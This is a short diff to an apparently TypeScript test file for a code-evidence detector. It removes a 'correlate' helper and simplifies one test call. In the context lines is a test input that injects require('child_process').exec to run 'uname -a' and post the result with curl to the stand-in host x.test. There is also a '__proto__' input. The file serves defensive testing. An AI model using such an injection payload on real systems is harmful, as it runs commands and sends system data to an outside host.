@@ -1,5 +1,4 @@
 import { codeEvidence } from './code.ts';
-import { correlate } from './correlate.ts';
 import { type EvidenceRow, manual, testEvidence } from './testing/rows.ts';
 
 const attack = `{"username":"foobar"+require('child_process').exec('uname -a | curl -d @- http://x.test')}`;
@@ -57,4 +56,4 @@ const rows: readonly EvidenceRow[] = [
   { name: 'a date', input: '2024-01-31', sink: '({"d":"2024-01-31"})', changes: '' },
   { name: 'JSON with an odd key', input: '{"__proto__":{"a":1}}', sink: '({"__proto__":{"a":1}})', changes: '' },
 ];
-testEvidence('code evidence', rows, (sink, index) => codeEvidence(sink, correlate(sink, index)));
+testEvidence('code evidence', rows, codeEvidence);
